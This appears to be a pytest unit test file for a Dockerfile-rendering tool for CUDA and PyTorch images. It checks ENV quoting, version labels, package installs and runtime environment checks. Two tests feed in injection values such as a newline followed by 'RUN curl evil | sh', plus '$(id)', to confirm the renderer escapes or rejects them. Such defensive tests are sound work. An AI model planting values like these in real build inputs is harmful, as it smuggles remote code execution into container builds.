"""Version variables in ENV, the multi-node packages of a CUDA layer, /workspace/README.md."""

from __future__ import annotations

import pytest

from ngc_builder.errors import InputError
from ngc_builder.manifest.load import load_release
from ngc_builder.plan.dag import plan_release
from ngc_builder.render.environment import env_instruction
from ngc_builder.runner.context import CheckFailed, Context, RunEnv
from ngc_builder.runner.imageenv import check_environment, expected_environment
from tests.conftest import WriteRelease
from tests.unit.conftest import GOOD_RELEASE
from tests.unit.render.test_contexts import render
from tests.unit.render.test_repro import added_files

pytestmark = pytest.mark.unit


def test_every_value_is_quoted_so_no_dollar_quote_or_backslash_escapes() -> None:
    text = env_instruction({"A_VERSION": '1.0" \\ $(id) ${HOME}', "B": "plain"})
    assert text == ('ENV A_VERSION="1.0\\" \\\\ \\$(id) \\${HOME}" \\\n    B="plain"')


@pytest.mark.parametrize("values", [{"A": "1.0\nRUN curl evil | sh"}, {"A": "x\ry"},
                                    {"lower": "1"}, {"A B": "1"}, {"A=B": "1"}])
def test_a_value_or_name_that_cannot_be_one_env_word_is_refused(values: dict[str, str]) -> None:
    with pytest.raises(ValueError):
        env_instruction(values)


def test_layers_export_the_versions_their_labels_carry(write_release: WriteRelease) -> None:
    manifest = write_release(GOOD_RELEASE)
    images = {image.spec.name: image for image in render(manifest)}
    labels = plan_release(load_release(manifest)).get("pytorch").labels
    cuda, torch = images["cuda-cu13"].dockerfile, images["pytorch"].dockerfile
    assert f'CUDA_VERSION="{labels["org.ngc-builder.cuda"]}"' in cuda
    for library in ("cudart", "cublas", "cudnn", "nccl"):
        assert f'{library.upper()}_VERSION="{labels[f"org.ngc-builder.{library}"]}"' in cuda
    for line in ('PYTORCH_VERSION="2.15.0"', 'NVIDIA_PRODUCT_NAME="PyTorch"',
                 'NVIDIA_PYTORCH_VERSION="26.11"', 'NGC_RELEASE="26.11"'):
        assert line in torch
    readme = images["pytorch"].files["workspace/README.md"].decode()
    # ADDed as a tar that keeps /workspace writable by any UID (render/repro.py)
    added = added_files(images["pytorch"])
    assert added["workspace/README.md"] == (0o644, readme.encode())
    assert added["workspace"] == (0o1777, b"")
    assert readme.startswith("# PyTorch 2.15.0 (ngc-builder release 26.11)\n")
    for runtime in ("## Docker", "## Slurm with pyxis/enroot", "## Apptainer", "## Charliecloud",
                    "PYTORCH_VERSION=2.15.0", "ch-run --set-env", "--container-entrypoint"):
        assert runtime in readme


def test_a_cuda_layer_installs_the_multi_node_userspace_from_the_lock(
    write_release: WriteRelease,
) -> None:
    manifest = write_release(GOOD_RELEASE)
    cuda = {image.spec.name: image for image in render(manifest)}["cuda-cu13"].dockerfile
    for package in ("libibverbs1", "ibverbs-providers", "rdmacm-utils", "ucx-utils",
                    "openmpi-bin"):
        assert f"{package}=1.0" in cuda  # the fake lock's version, through the cache repo
    assert cuda.index("openmpi-bin") < cuda.index("ADD copy-")


def test_a_hostile_title_in_a_framework_file_never_reaches_the_dockerfile(
    write_release: WriteRelease,
) -> None:
    manifest = write_release(GOOD_RELEASE)
    framework = manifest.parents[1] / "frameworks" / "jax" / "framework.yaml"
    original = framework.read_text()  # the test project's copy (tests/conftest.py)
    framework.write_text(original.replace("title: JAX", 'title: "JAX\\nRUN curl evil | sh"'))
    with pytest.raises(InputError, match="title"):
        render(manifest)


def test_the_image_environment_check_holds_env_to_the_expectations(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    expect = {"stack": "cu13", "cuda": "13.2", "libraries": {"nccl": "2.30.7"},
              "framework": "lua-torch", "version": "7.0", "release": "26.12"}
    assert expected_environment(expect) == {
        "CUDA_VERSION": "13.2", "NCCL_VERSION": "2.30.7", "LUA_TORCH_VERSION": "7.0",
        "NVIDIA_LUA_TORCH_VERSION": "26.12", "NGC_RELEASE": "26.12"}
    for key, value in expected_environment(expect).items():
        monkeypatch.setenv(key, value)
    ctx = Context(RunEnv(expect, "none", False, False), "image.environment")
    assert "NCCL_VERSION=2.30.7" in check_environment(ctx)
    monkeypatch.delenv("NCCL_VERSION")  # a runtime that did not apply the image's ENV
    with pytest.raises(CheckFailed, match="NCCL_VERSION"):
        check_environment(ctx)
